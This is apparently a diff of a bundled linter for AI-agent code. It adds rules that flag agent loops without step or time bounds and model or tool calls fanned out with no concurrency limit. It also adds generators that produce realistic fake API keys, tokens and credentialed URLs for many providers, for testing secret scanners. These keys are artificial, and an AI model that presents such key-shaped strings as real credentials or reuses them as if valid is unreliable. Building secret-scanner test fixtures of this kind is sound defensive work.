+    if (u.type === "call_expression" && /^(stepCountIs|isStepCount)$/.test(calleeText(u))) {
+      const v = argList(u)[0];
+      const num = v ? numericValue(v) : null;
+      if (num === null) unknown = true;
+      else if (num > c.maxIterations) reportValue(c, u, "raised", { param: `stopWhen: ${calleeText(u)}(n)`, framework: "AI SDK", value: describe2(num), max: c.maxIterations });
+      counted = true;
+    } else if (u.type === "identifier" || u.type === "member_expression" || u.type === "spread_element") {
+      unknown = true;
+    } else if ((u.type === "arrow_function" || u.type === "function_expression") && /steps\.length|stepNumber|stepCount/.test(u.text)) {
+      counted = true;
+    }
+  }
+  if (!counted && !unknown) reportValue(c, stop2.node, "stopWhenNoCount", { framework: "AI SDK", max: c.maxIterations });
+}
+var TIME_OR_BOUND = /\b(time\.(time|monotonic|perf_counter)|monotonic|perf_counter|Date\.now|performance\.now|deadline|timeout|time_?limit|expires?|elapsed|max_?(steps|iter\w*|turns|rounds|loops|calls|tool_calls)|MAX_\w+|maxSteps|maxTurns|maxIterations|budget|remaining|retries|attempts?)\b/i;
+function whileTrue(c, loop, body2, text) {
+  if (!body2) return;
+  const model = reachesModelOrTool(body2, c.lang, text, 2);
+  if (!model || model.call.kind === "tool") return;
+  if (!runsTools(body2, c.lang, text)) return;
+  if (hasCounterOrDeadline(body2)) return;
+  const head = loop.text.split("\n")[0].replace(/\s*(\/\/|#).*$/, "").replace(/\{\s*$/, "").trim();
+  c.ctx.report({
+    messageId: "whileTrue",
+    data: { loop: shorten(head), model: model.call.callee },
+    range: c.ctx.file.rangeOf(loop.startIndex, loop.startIndex + loop.text.split("\n")[0].length)
+  });
+}
+function runsTools(body2, lang, text) {
+  if (!/tool_calls|tool_use|toolCalls|tool_call|function_call|functionCall|toolUse|tool_results|toolResults/.test(body2.text)) return false;
+  for (const call of callsIn(body2, lang, true)) {
+    const callee = calleeText(call);
+    const k = classifyCall(call, lang, text);
+    if (k?.kind === "tool") return true;
+    if (/tool|function|func|handler|dispatch|execute|invoke_fn|call_fn/i.test(callee) && !/\.(append|push|get|items|keys|loads|dumps|parse|stringify)$/.test(callee)) return true;
+    const fn = call.childForFieldName("function");
+    if (fn?.type === "subscript" || fn?.type === "subscript_expression") return true;
+    if (/^getattr$/.test(callee) || fn?.type === "call" && /^getattr$/.test(calleeText(fn))) return true;
+  }
+  return false;
+}
+function hasCounterOrDeadline(body2) {
+  const incremented = /* @__PURE__ */ new Set();
+  for (const d of descendants(body2)) {
+    if (d.type === "augmented_assignment" || d.type === "augmented_assignment_expression") {
+      const l = d.childForFieldName("left");
+      if (l) incremented.add(l.text);
+    } else if (d.type === "update_expression") {
+      const arg2 = d.childForFieldName("argument") ?? d.namedChildren[0];
+      if (arg2) incremented.add(arg2.text);
+    }
+  }
+  for (const d of descendants(body2)) {
+    if (d.type !== "if_statement" && d.type !== "assert_statement") continue;
+    const cond = d.type === "if_statement" ? d.childForFieldName("condition") : d.namedChildren[0];
+    if (!cond) continue;
+    if (TIME_OR_BOUND.test(cond.text)) return true;
+    for (const name2 of incremented) if (new RegExp(`(^|[^\\w.])${name2.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}\\b`).test(cond.text)) return true;
+  }
+  return false;
+}
+
+// src/rules/rate-limit/unbounded-tool-concurrency.ts
+var ID5 = "rate-limit/unbounded-tool-concurrency";
+var PY_GATHER = /^(asyncio\.)?(gather|wait|as_completed)$/;
+var JS_ALL = /^Promise\.(all|allSettled|any|race)$/;
+var Analyzer = class {
+  constructor(lang, text, opts, extra) {
+    this.lang = lang;
+    this.text = text;
+    this.opts = opts;
+    this.extra = extra;
+  }
+  lang;
+  text;
+  opts;
+  extra;
+  /** Is an iterable small and fixed (literal list, range(3)) or a batch (a slice, a `batch` loop variable)? */
+  iterableBound(it, depth = 0) {
+    if (!it || depth > 3) return null;
+    const n = unwrap(it);
+    if (n.type === "list" || n.type === "tuple" || n.type === "set" || n.type === "array") {
+      if (n.namedChildren.some((c) => c?.type === "list_splat" || c?.type === "spread_element")) return null;
+      return n.namedChildCount <= this.opts.maxFixedFanOut ? "fixed" : null;
+    }
+    if (n.type === "string") return "fixed";
+    if (["list_comprehension", "set_comprehension", "dictionary_comprehension", "generator_expression"].includes(n.type)) {
+      const clause = n.namedChildren.find((c) => c?.type === "for_in_clause");
+      return this.iterableBound(clause?.childForFieldName("right") ?? null, depth + 1);
+    }
+    if (n.type === "subscript" && n.namedChildren.some((c) => c?.type === "slice")) return "bounded";
+    if (n.type === "call" || n.type === "call_expression") {
+      const callee = calleeText(n);
+      const args2 = argList(n);
+      if (/^range$/.test(callee) && args2.length) {
+        const v = numericValue(args2[args2.length === 1 ? 0 : 1]);
+        return v !== null && v <= this.opts.maxFixedFanOut ? "fixed" : null;
+      }
+      if (/^(enumerate|zip|list|tuple|sorted|reversed|set|Object\.(entries|keys|values))$/.test(callee) && args2[0]) return this.iterableBound(args2[0], depth + 1);
+      if (/(^|\.)(slice|batched|chunked|chunks|batches|islice)$/.test(callee)) return "bounded";
+      if (/\.(items|keys|values)$/.test(callee)) {
+        const recv = n.childForFieldName("function")?.childForFieldName("object");
+        return recv ? this.iterableBound(recv, depth + 1) : null;
+      }
+      return null;
+    }
+    if (n.type === "identifier") {
+      if (/batch|chunk/i.test(n.text)) return "bounded";
+      const v = resolveName(n.text, n, this.lang);
+      if (v && v !== n) return this.iterableBound(v, depth + 1);
+    }
+    if (n.type === "dictionary" || n.type === "object") return n.namedChildCount <= this.opts.maxFixedFanOut ? "fixed" : null;
+    return null;
+  }
+  data(element, iterable) {
+    const b = this.iterableBound(iterable);
+    if (b) return { kind: b };
+    return { kind: "data", element, iterable };
+  }
+  /** Classify the collection a gather/Promise.all receives. */
+  collection(node, depth = 0) {
+    if (depth > 4) return { kind: "unknown" };
+    const n = unwrap(node);
+    switch (n.type) {
+      case "list":
+      case "tuple":
+      case "set":
+      case "array": {
+        const spread = n.namedChildren.find((c) => c?.type === "list_splat" || c?.type === "spread_element");
+        return spread?.namedChildren[0] ? this.collection(spread.namedChildren[0], depth + 1) : { kind: "fixed" };
+      }
+      case "list_comprehension":
+      case "generator_expression":
+      case "set_comprehension":
+      case "dictionary_comprehension": {
+        let body2 = n.childForFieldName("body");
+        if (body2?.type === "pair") body2 = body2.childForFieldName("key");
+        const clause = n.namedChildren.find((c) => c?.type === "for_in_clause");
+        if (!body2) return { kind: "unknown" };
+        return this.data(body2, clause?.childForFieldName("right") ?? null);
+      }
+      case "call":
+      case "call_expression": {
+        const callee = calleeText(n);
+        const args2 = argList(n);
+        if (this.lang === "python") {
+          if (callee === "map" && args2.length >= 2) return this.data(args2[0], args2[1]);
+          if (/^(list|set|tuple|sorted)$/.test(callee) && args2[0]) return this.collection(args2[0], depth + 1);
+          return { kind: "unknown" };
+        }
+        const fn = n.childForFieldName("function");
+        if (/\.(map|flatMap)$/.test(callee) && args2[0]) {
+          const recv = fn?.childForFieldName("object") ?? null;
+          return this.data(args2[0], recv);
+        }
+        if (callee === "Array.from" && args2.length >= 2) return this.data(args2[1], args2[0]);
+        if (/\.(filter|concat|slice)$/.test(callee) && fn?.childForFieldName("object")) return this.collection(fn.childForFieldName("object"), depth + 1);
+        return { kind: "unknown" };
+      }
+      case "identifier": {
+        const pushed = this.pushedInLoop(n);
+        if (pushed) return pushed;
+        const v = resolveName(n.text, n, this.lang);
+        return v ? this.collection(v, depth + 1) : { kind: "unknown" };
+      }
+      case "binary_operator":
+      case "binary_expression": {
+        for (const side of [n.childForFieldName("left"), n.childForFieldName("right")]) {
+          if (!side) continue;
+          const c = this.collection(side, depth + 1);
+          if (c.kind === "data") return c;
+        }
+        return { kind: "unknown" };
+      }
+      default:
+        return { kind: "unknown" };
+    }
+  }
+  /** `tasks.append(E)` / `promises.push(E)` inside a loop, in the scope where `tasks` is used. */
+  pushedInLoop(id) {
+    let scope = id.parent;
+    while (scope && !["function_definition", "module", "function_declaration", "arrow_function", "function_expression", "method_definition", "program", "function"].includes(scope.type)) scope = scope.parent;
+    if (!scope) return null;
+    const methods = this.lang === "python" ? /^(append|add|extend)$/ : /^(push|unshift)$/;
+    for (const d of descendants(scope)) {
+      if (d.type !== "call" && d.type !== "call_expression") continue;
+      const fn = d.childForFieldName("function");
+      if (!fn || fn.type !== "attribute" && fn.type !== "member_expression") continue;
+      const obj = fn.childForFieldName("object");
+      const prop = fn.childForFieldName(this.lang === "python" ? "attribute" : "property");
+      if (obj?.text !== id.text || !prop || !methods.test(prop.text)) continue;
+      if (d.startIndex > id.startIndex) continue;
+      const arg2 = argList(d)[0];
+      if (!arg2) continue;
+      const loop = enclosingLoop(d, scope);
+      if (!loop) continue;
+      if (prop.text === "extend") return this.collection(arg2, 1);
+      if (loop.type === "while_statement") return { kind: "data", element: arg2, iterable: null };
+      const iter = loop.childForFieldName("right") ?? loop.childForFieldName("value") ?? null;
+      return this.data(arg2, iter);
+    }
+    return null;
+  }
+  /** For a data-built collection: the model/tool call it fans out to, unless a limiter is on the path. */
+  element(el) {
+    let e = this.lang === "python" ? unwrapTaskWrapper(el, this.lang) : unwrap(el);
+    if (e.type === "identifier" || e.type === "attribute" || e.type === "member_expression") {
+      const name2 = e.text.replace(/^(self|this|cls)\./, "");
+      const fn = /^[\w$]+$/.test(name2) ? findLocalFunction(e, name2, this.lang) : null;
+      if (!fn) return null;
+      e = fn;
+    }
+    if (["arrow_function", "function_expression", "function", "lambda", "function_definition", "function_declaration", "method_definition", "generator_function_declaration"].includes(e.type)) {
+      const body2 = functionBody(e);
+      if (!body2) return null;
+      if (takesLimiter(body2, this.lang)) return null;
+      return reachesModelOrTool(body2, this.lang, this.text, 3, this.extra);
+    }
+    if (e.type !== "call" && e.type !== "call_expression") return null;
+    if (argList(e).some((a) => a.type === "identifier" && LIMITER_NAME.test(a.text))) return null;
+    if (takesLimiter(e, this.lang)) return null;
+    return reachesModelOrTool(e, this.lang, this.text, 3, this.extra);
+  }
+};
+function enclosingLoop(n, stop2) {
+  let cur = n.parent;
+  while (cur && cur !== stop2) {
+    if (["for_statement", "for_in_statement", "while_statement", "for_of_statement"].includes(cur.type)) return cur;
+    cur = cur.parent;
+  }
+  return null;
+}
+function report2(ctx, at2, messageId, fn, reach, iterable) {
+  ctx.report({
+    messageId,
+    data: { fn, callee: reach.call.callee, kind: reach.call.kind === "tool" ? "tool" : reach.call.kind === "agent" ? "agent" : "model", iterable: iterable ? shorten(iterable.text) : "a loop" },
+    range: ctx.file.rangeOf(at2.startIndex, at2.endIndex),
+    related: reach.node.startIndex < at2.startIndex || reach.node.startIndex > at2.endIndex ? [{ path: ctx.file.path, range: ctx.file.rangeOf(reach.node.startIndex, reach.node.endIndex), message: `the ${reach.call.kind} call fanned out` }] : void 0
+  });
+}
+var unboundedToolConcurrency = {
+  meta: {
+    id: ID5,
+    family: "rate-limit",
+    severity: "warning",
+    description: "asyncio.gather / asyncio.wait / TaskGroup loops and Promise.all / allSettled that start one model or tool call per item of a data-built collection with no semaphore, p-limit / p-queue / Bottleneck or bounded pool on the path.",
+    fix: "Bound the fan-out: take an asyncio.Semaphore inside the gathered coroutine, or wrap each JS call in p-limit / p-queue / Bottleneck.",
+    messages: {
+      python: "{{fn}} starts one {{kind}} call ({{callee}}) per item of `{{iterable}}` with no concurrency bound: take an asyncio.Semaphore inside the gathered coroutine (`async with sem:`) or use a bounded worker pool",
+      taskGroup: "{{fn}} in a loop over `{{iterable}}` starts one {{kind}} call ({{callee}}) per item with no concurrency bound: take an asyncio.Semaphore inside the task (`async with sem:`) or use a bounded worker pool",
+      js: "{{fn}} starts one {{kind}} call ({{callee}}) per item of `{{iterable}}` at once: wrap each call in a limiter (p-limit `limit(() => \u2026)`, p-queue `queue.add(\u2026)` or Bottleneck `limiter.schedule(\u2026)`)"
+    },
+    defaultOptions: { maxFixedFanOut: 10, extraCallPatterns: [] },
+    optionsSchema: {
+      properties: {
+        maxFixedFanOut: { type: "integer", minimum: 0, description: "A literal list or range(N) of at most this many items counts as a fixed, bounded fan-out." },
+        extraCallPatterns: { type: "array", items: { type: "string" }, description: 'Regular expressions over callee text (e.g. "^myclient\\\\.ask$") that also count as model/tool calls.' }
+      }
+    }
+  },
+  appliesTo: (file) => file.isCode && /gather|asyncio\.wait|as_completed|TaskGroup|task_group|nursery|Promise\.(all|allSettled|any|race)/.test(file.text),
+  async check(ctx) {
+    const parsed = await ctx.tree();
+    if (!parsed) return;
+    const lang = langOf(parsed.language);
+    const opts = ctx.options;
+    const a = new Analyzer(lang, ctx.file.text, opts, compileExtraPatterns(opts.extraCallPatterns));
+    for (const n of descendants(parsed.root)) {
+      if (lang === "python" && n.type === "call") {
+        const callee = calleeText(n);
+        if (PY_GATHER.test(callee) && (callee.startsWith("asyncio.") || /\basyncio\b/.test(ctx.file.text))) {
+          const args2 = argList(n).filter((x) => x.type !== "keyword_argument");
+          let coll = { kind: "fixed" };
+          if (callee.endsWith("gather")) {
+            const splat = args2.find((x) => x.type === "list_splat");
+            coll = splat?.namedChildren[0] ? a.collection(splat.namedChildren[0]) : { kind: "fixed" };
+          } else if (args2[0]) {
+            coll = a.collection(args2[0]);
+          }
+          if (coll.kind !== "data") continue;
+          const reach = a.element(coll.element);
+          if (reach) report2(ctx, n, "python", callee, reach, coll.iterable);
+        }
+      } else if (lang === "python" && n.type === "with_statement") {
+        checkTaskGroup(ctx, a, n);
+      } else if (lang === "js" && n.type === "call_expression") {
+        const callee = calleeText(n);
+        if (!JS_ALL.test(callee)) continue;
+        const arg2 = argList(n)[0];
+        if (!arg2) continue;
+        const coll = a.collection(arg2);
+        if (coll.kind !== "data") continue;
+        const reach = a.element(coll.element);
+        if (reach) report2(ctx, n, "js", callee, reach, coll.iterable);
+      }
+    }
+  }
+};
+function checkTaskGroup(ctx, a, w) {
+  for (const item of w.descendantsOfType("with_item")) {
+    const v = item?.childForFieldName("value");
+    if (v?.type !== "as_pattern") continue;
+    const call = v.namedChildren[0];
+    const alias = v.childForFieldName("alias")?.text ?? v.namedChildren[1]?.text;
+    if (!call || call.type !== "call" || !alias || !/(TaskGroup|create_task_group|open_nursery)$/.test(calleeText(call))) continue;
+    const body2 = w.childForFieldName("body");
+    if (!body2) continue;
+    for (const d of descendants(body2)) {
+      if (d.type !== "call") continue;
+      const callee = calleeText(d);
+      if (callee !== `${alias}.create_task` && callee !== `${alias}.start_soon`) continue;
+      const loop = enclosingLoop(d, body2);
+      if (!loop) continue;
+      const iter = loop.type === "while_statement" ? null : loop.childForFieldName("right");
+      if (a.iterableBound(iter)) continue;
+      const first = argList(d)[0];
+      if (!first) continue;
+      const reach = a.element(first);
+      if (reach) report2(ctx, d, "taskGroup", callee, reach, iter);
+    }
+  }
+}
+
+// src/rules/rate-limit/index.ts
+var rateLimitRules = [orchestratorWithoutLimits, unboundedToolConcurrency, unboundedAgentLoop, gatewayWithoutLimits, clientWithoutTimeout];
 
 // src/secrets/fake-keys.ts
 function seededRng(seed) {
@@ -20961,47 +24367,11733 @@ function seededRng(seed) {
     return ((t ^ t >>> 14) >>> 0) / 4294967296;
   };
 }
-var ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+var LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
+var ALNUM = LETTERS + "0123456789";
 var ALNUM_DASH = ALNUM + "-_";
+var HEX = "0123456789abcdef";
+var LOWER_ALNUM = "abcdefghijklmnopqrstuvwxyz0123456789";
 function randomString(rng, alphabet, length) {
   let s = "";
   for (let i2 = 0; i2 < length; i2++) s += alphabet[Math.floor(rng() * alphabet.length)];
   return s;
 }
 var OPENAI_MARKER = ["T3Bl", "bkFJ"].join("");
+var r = randomString;
+var openaiNew = (prefix) => (rng) => `sk-${prefix}-${r(rng, ALNUM_DASH, 58)}${OPENAI_MARKER}${r(rng, ALNUM_DASH, 58)}`;
 var FAKE_KEY_GENERATORS = {
-  "openai-project": {
+  "openai-project": { ruleId: "secret/openai-api-key", label: "OpenAI", envVar: "OPENAI_API_KEY", generate: openaiNew("proj") },
+  "openai-legacy": {
     ruleId: "secret/openai-api-key",
-    generate: (rng) => `sk-proj-${randomString(rng, ALNUM_DASH, 58)}${OPENAI_MARKER}${randomString(rng, ALNUM_DASH, 58)}`
+    label: "OpenAI",
+    envVar: "OPENAI_API_KEY",
+    generate: (rng) => `sk-${r(rng, ALNUM, 20)}${OPENAI_MARKER}${r(rng, ALNUM, 20)}`
   },
+  "openai-svcacct": { ruleId: "secret/openai-api-key", label: "OpenAI", envVar: "OPENAI_API_KEY", generate: openaiNew("svcacct") },
+  "openai-admin": { ruleId: "secret/openai-api-key", label: "OpenAI", envVar: "OPENAI_ADMIN_KEY", generate: openaiNew("admin") },
   anthropic: {
     ruleId: "secret/anthropic-api-key",
-    generate: (rng) => `sk-ant-api03-${randomString(rng, ALNUM_DASH, 93)}AA`
+    label: "Anthropic",
+    envVar: "ANTHROPIC_API_KEY",
+    generate: (rng) => `sk-ant-api03-${r(rng, ALNUM_DASH, 93)}AA`
+  },
+  "anthropic-admin": {
+    ruleId: "secret/anthropic-api-key",
+    label: "Anthropic",
+    envVar: "ANTHROPIC_ADMIN_KEY",
+    generate: (rng) => `sk-ant-admin01-${r(rng, ALNUM_DASH, 93)}AA`
+  },
+  google: { ruleId: "secret/google-api-key", label: "Google/Gemini", envVar: "GEMINI_API_KEY", generate: (rng) => `${["AI", "za"].join("")}${r(rng, ALNUM_DASH, 35)}` },
+  huggingface: { ruleId: "secret/huggingface-token", label: "Hugging Face", envVar: "HF_TOKEN", generate: (rng) => `hf_${r(rng, LETTERS, 34)}` },
+  "huggingface-org": { ruleId: "secret/huggingface-token", label: "Hugging Face", envVar: "HUGGINGFACEHUB_API_TOKEN", generate: (rng) => `api_org_${r(rng, LETTERS, 34)}` },
+  groq: { ruleId: "secret/groq-api-key", label: "Groq", envVar: "GROQ_API_KEY", generate: (rng) => `gsk_${r(rng, ALNUM, 52)}` },
+  replicate: { ruleId: "secret/replicate-api-token", label: "Replicate", envVar: "REPLICATE_API_TOKEN", generate: (rng) => `r8_${r(rng, ALNUM, 37)}` },
+  perplexity: { ruleId: "secret/perplexity-api-key", label: "Perplexity", envVar: "PERPLEXITY_API_KEY", generate: (rng) => `pplx-${r(rng, ALNUM, 48)}` },
+  "langsmith-personal": {
+    ruleId: "secret/langsmith-api-key",
+    label: "LangSmith",
+    envVar: "LANGSMITH_API_KEY",
+    generate: (rng) => `lsv2_pt_${r(rng, HEX, 32)}_${r(rng, HEX, 10)}`
+  },
+  "langsmith-service": {
+    ruleId: "secret/langsmith-api-key",
+    label: "LangSmith",
+    envVar: "LANGCHAIN_API_KEY",
+    generate: (rng) => `lsv2_sk_${r(rng, HEX, 32)}_${r(rng, HEX, 10)}`
+  },
+  pinecone: { ruleId: "secret/pinecone-api-key", label: "Pinecone", envVar: "PINECONE_API_KEY", generate: (rng) => `pcsk_${r(rng, ALNUM, 6)}_${r(rng, ALNUM, 63)}` },
+  xai: { ruleId: "secret/xai-api-key", label: "xAI", envVar: "XAI_API_KEY", generate: (rng) => `xai-${r(rng, ALNUM, 80)}` },
+  together: { ruleId: "secret/together-api-key", label: "Together", envVar: "TOGETHER_API_KEY", generate: (rng) => `tgp_v1_${r(rng, ALNUM_DASH, 43)}` },
+  openrouter: { ruleId: "secret/openrouter-api-key", label: "OpenRouter", envVar: "OPENROUTER_API_KEY", generate: (rng) => `sk-or-v1-${r(rng, HEX, 64)}` },
+  fireworks: { ruleId: "secret/fireworks-api-key", label: "Fireworks", envVar: "FIREWORKS_API_KEY", generate: (rng) => `fw_${r(rng, ALNUM, 24)}` },
+  deepseek: { ruleId: "secret/deepseek-api-key", label: "DeepSeek", envVar: "DEEPSEEK_API_KEY", generate: (rng) => `sk-${r(rng, HEX, 32)}` },
+  cohere: { ruleId: "secret/cohere-api-key", label: "Cohere", envVar: "COHERE_API_KEY", generate: (rng) => r(rng, ALNUM, 40) },
+  mistral: { ruleId: "secret/mistral-api-key", label: "Mistral", envVar: "MISTRAL_API_KEY", generate: (rng) => r(rng, ALNUM, 32) },
+  "azure-openai": { ruleId: "secret/azure-openai-api-key", label: "Azure OpenAI", envVar: "AZURE_OPENAI_API_KEY", generate: (rng) => r(rng, HEX, 32) },
+  "azure-openai-v2": {
+    ruleId: "secret/azure-openai-api-key",
+    label: "Azure OpenAI",
+    envVar: "AZURE_OPENAI_KEY",
+    // Newer Azure AI keys: 84 base62 characters.
+    generate: (rng) => r(rng, ALNUM, 84)
   }
 };
+function fake1PasswordToken(rng) {
+  let json = `{"email":"${r(rng, LOWER_ALNUM, 13)}@1passwordserviceaccounts.lcl","secretKey":"${r(rng, ALNUM, 34)}","srpX":"${r(rng, HEX, 64)}"`;
+  while ((json.length + 1) % 3 !== 1) json += " ";
+  return `ops_${Buffer.from(`${json}}`).toString("base64")}`;
+}
+var UPPER_DIGITS = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
+var DIGITS = "0123456789";
+var WORD = ALNUM + "_";
+var PRESET_FAKE_KEY_GENERATORS = {
+  "aws-access-key-id": { ruleId: "secret/aws-credentials", label: "AWS", envVar: "AWS_ACCESS_KEY_ID", generate: (rng) => `${["AK", "IA"].join("")}${r(rng, UPPER_DIGITS, 16)}` },
+  "aws-secret-access-key": {
+    ruleId: "secret/aws-credentials",
+    label: "AWS",
+    envVar: "AWS_SECRET_ACCESS_KEY",
+    // Ends on an alphanumeric: secretlint's pattern needs a word boundary after the key.
+    generate: (rng) => `${r(rng, ALNUM + "/+", 39)}${r(rng, ALNUM, 1)}`
+  },
+  github: { ruleId: "secret/github-token", label: "GitHub", envVar: "GITHUB_TOKEN", generate: (rng) => `ghp_${r(rng, ALNUM, 36)}` },
+  gitlab: { ruleId: "secret/gitlab-token", label: "GitLab", envVar: "GITLAB_TOKEN", generate: (rng) => `glpat-${r(rng, ALNUM, 20)}` },
+  slack: { ruleId: "secret/slack-token", label: "Slack", envVar: "SLACK_BOT_TOKEN", generate: (rng) => `xoxb-${r(rng, DIGITS, 11)}-${r(rng, DIGITS, 13)}-${r(rng, ALNUM, 24)}` },
+  sendgrid: { ruleId: "secret/sendgrid-api-key", label: "SendGrid", envVar: "SENDGRID_API_KEY", generate: (rng) => `SG.${r(rng, WORD, 22)}.${r(rng, WORD, 43)}` },
+  npm: { ruleId: "secret/npm-token", label: "npm", envVar: "NPM_TOKEN", generate: (rng) => `npm_${r(rng, ALNUM, 36)}` },
+  shopify: { ruleId: "secret/shopify-token", label: "Shopify", envVar: "SHOPIFY_ACCESS_TOKEN", generate: (rng) => `shpat_${r(rng, HEX, 32)}` },
+  linear: { ruleId: "secret/linear-api-key", label: "Linear", envVar: "LINEAR_API_KEY", generate: (rng) => `lin_api_${r(rng, ALNUM, 40)}` },
+  notion: { ruleId: "secret/notion-token", label: "Notion", envVar: "NOTION_TOKEN", generate: (rng) => `ntn_${r(rng, DIGITS, 11)}${r(rng, ALNUM, 35)}` },
+  grafana: { ruleId: "secret/grafana-token", label: "Grafana", envVar: "GRAFANA_TOKEN", generate: (rng) => `glsa_${r(rng, ALNUM, 32)}_${r(rng, HEX, 8)}` },
+  "hashicorp-vault": { ruleId: "secret/hashicorp-vault-token", label: "HashiCorp Vault", envVar: "VAULT_TOKEN", generate: (rng) => `hvs.${r(rng, ALNUM_DASH, 95)}` },
+  vercel: { ruleId: "secret/vercel-token", label: "Vercel", envVar: "AI_GATEWAY_API_KEY", generate: (rng) => `vck_${r(rng, ALNUM, 40)}` },
+  databricks: { ruleId: "secret/databricks-token", label: "Databricks", envVar: "DATABRICKS_TOKEN", generate: (rng) => `dapi${r(rng, HEX, 32)}` },
+  docker: { ruleId: "secret/docker-hub-token", label: "Docker Hub", envVar: "DOCKERHUB_TOKEN", generate: (rng) => `dckr_pat_${r(rng, ALNUM, 27)}` },
+  figma: { ruleId: "secret/figma-token", label: "Figma", envVar: "FIGMA_TOKEN", generate: (rng) => `figd_${r(rng, ALNUM, 40)}` },
+  "1password": { ruleId: "secret/1password-service-account-token", label: "1Password", envVar: "OP_SERVICE_ACCOUNT_TOKEN", generate: fake1PasswordToken },
+  postgres: {
+    ruleId: "secret/database-connection-string",
+    label: "PostgreSQL",
+    envVar: "DATABASE_URL",
+    generate: (rng) => `postgresql://app_${r(rng, LOWER_ALNUM, 6)}:${r(rng, ALNUM, 24)}@db-${r(rng, LOWER_ALNUM, 8)}.prod.internal:5432/app`
+  },
+  "basic-auth": {
+    ruleId: "secret/basic-auth-url",
+    label: "Basic auth URL",
+    envVar: "REGISTRY_URL",
+    generate: (rng) => `https://deploy_${r(rng, LOWER_ALNUM, 6)}:${r(rng, ALNUM, 24)}@registry.acme-${r(rng, LOWER_ALNUM, 6)}.io/simple`
+  }
+};
+var LLM_PROVIDER_KEYS = Object.keys(FAKE_KEY_GENERATORS);
+Object.assign(FAKE_KEY_GENERATORS, PRESET_FAKE_KEY_GENERATORS);
 function fakeKey(provider, rng) {
   const g = FAKE_KEY_GENERATORS[provider];
   if (!g) throw new Error(`no fake key generator for ${provider}`);
-  return { provider, ruleId: g.ruleId, key: g.generate(rng) };
+  return { provider, ruleId: g.ruleId, key: g.generate(rng), ...g.envVar ? { envVar: g.envVar } : {} };
 }
 
-// src/rules/rate-limit/index.ts
-var rateLimitRules = [];
+// src/secrets/decoys.ts
+function shannonEntropy(s) {
+  if (s.length === 0) return 0;
+  const counts = /* @__PURE__ */ new Map();
+  for (const ch of s) counts.set(ch, (counts.get(ch) ?? 0) + 1);
+  let h = 0;
+  for (const n of counts.values()) {
+    const p = n / s.length;
+    h -= p * Math.log2(p);
+  }
+  return h;
+}
+function longestRepeat(s) {
+  let best = s.length ? 1 : 0;
+  let run2 = 1;
+  for (let i2 = 1; i2 < s.length; i2++) {
+    run2 = s.charCodeAt(i2) === s.charCodeAt(i2 - 1) ? run2 + 1 : 1;
+    if (run2 > best) best = run2;
+  }
+  return best;
+}
+function longestSequence(s) {
+  let best = s.length ? 1 : 0;
+  let up = 1;
+  let down = 1;
+  for (let i2 = 1; i2 < s.length; i2++) {
+    const d = s.charCodeAt(i2) - s.charCodeAt(i2 - 1);
+    up = d === 1 ? up + 1 : 1;
+    down = d === -1 ? down + 1 : 1;
+    best = Math.max(best, up, down);
+  }
+  return best;
+}
+function minimumEntropy(s, alphabet) {
+  return Math.log2(Math.min(s.length, alphabet)) * 0.72;
+}
+function alphabetSize(s) {
+  return /^[0-9a-f_-]+$/.test(s) || /^[0-9A-F_-]+$/.test(s) ? 16 : /^[A-Za-z_-]+$/.test(s) ? 52 : 64;
+}
+var PLACEHOLDER_WORDS = /your|YOUR|example|EXAMPLE|placeholder|PLACEHOLDER|dummy|DUMMY|redacted|REDACTED|changeme|CHANGEME|replace|REPLACE|insert|INSERT|sample|SAMPLE|secret|SECRET/;
+var TEMPLATE_CHARS = /[<>{}$*…]|\.\.\./;
+function mixesCharacterClasses(body2) {
+  return Number(/[A-Z]/.test(body2)) + Number(/[a-z]/.test(body2)) + Number(/[0-9]/.test(body2)) >= 2;
+}
+var CAMEL_CASE = /^[A-Za-z]?[a-z]+(?:[A-Z][a-z]{2,})+[0-9]{0,2}$/;
+function decoyReason(body2) {
+  if (TEMPLATE_CHARS.test(body2)) return "template";
+  if (PLACEHOLDER_WORDS.test(body2)) return "placeholder";
+  const alphabet = alphabetSize(body2);
+  const longestAllowed = alphabet === 16 ? 7 : 5;
+  if (longestRepeat(body2) > longestAllowed) return "repeated";
+  if (longestSequence(body2) > longestAllowed) return "sequential";
+  if (body2.length >= 16 && (!mixesCharacterClasses(body2) || CAMEL_CASE.test(body2))) return "identifier";
+  if (shannonEntropy(body2) < minimumEntropy(body2, alphabet)) return "low-entropy";
+  return null;
+}
+function placeholderReason(secret) {
+  if (TEMPLATE_CHARS.test(secret)) return "template";
+  if (PLACEHOLDER_WORDS.test(secret)) return "placeholder";
+  if (longestRepeat(secret) >= 8) return "repeated";
+  return null;
+}
+
+// node_modules/@secretlint/core/module/SecretLintSourceCodeImpl.js
+var import_structured_source = __toESM(require_structured_source(), 1);
+
+// node_modules/@secretlint/core/module/helper/invariant.js
+function invariant(condition, message) {
+  if (!condition)
+    throw new Error(message);
+}
+
+// node_modules/@secretlint/core/module/SecretLintSourceCodeImpl.js
+var SecretLintSourceCodeImpl = class {
+  hasBOM;
+  content;
+  filePath;
+  physicalFilePath;
+  contentType;
+  ext;
+  structuredSource;
+  constructor({ content = "", ext, filePath, physicalFilePath, contentType }) {
+    invariant(ext || filePath, "should be set either of fileExt or filePath.");
+    this.hasBOM = content.charCodeAt(0) === 65279;
+    this.content = this.hasBOM ? content.slice(1) : content;
+    this.structuredSource = new import_structured_source.StructuredSource(this.content);
+    this.filePath = filePath;
+    this.physicalFilePath = physicalFilePath;
+    this.contentType = contentType;
+    this.ext = ext;
+  }
+  /**
+   * get file path
+   * This return `undefined` if the source code is created without file path.
+   * For example, use core API to create a source code directly.
+   *
+   * You can use this path to detect file type.
+   * However, if you want to read the file content, use `getPhysicalFilePath` instead.
+   * @returns {string|undefined}
+   */
+  getFilePath() {
+    return this.filePath;
+  }
+  /**
+   * get physical file path
+   * This return `undefined` if the source code is not related to file.
+   * For example, the source code is given from the stdin.
+   *
+   * You can use this path to read the file content.
+   */
+  getPhysicalFilePath() {
+    return this.physicalFilePath;
+  }
+  /**
+   * @param {SecretLintSourceNodeLocation} loc - location indicator.
+   * @return {[ number, number ]} range.
+   */
+  locationToRange(loc2) {
+    return this.structuredSource.locationToRange(loc2);
+  }
+  /**
+   * @param {[ number, number ]} range - pair of indice.
+   * @return {SecretLintSourceNodeLocation} location.
+   */
+  rangeToLocation(range) {
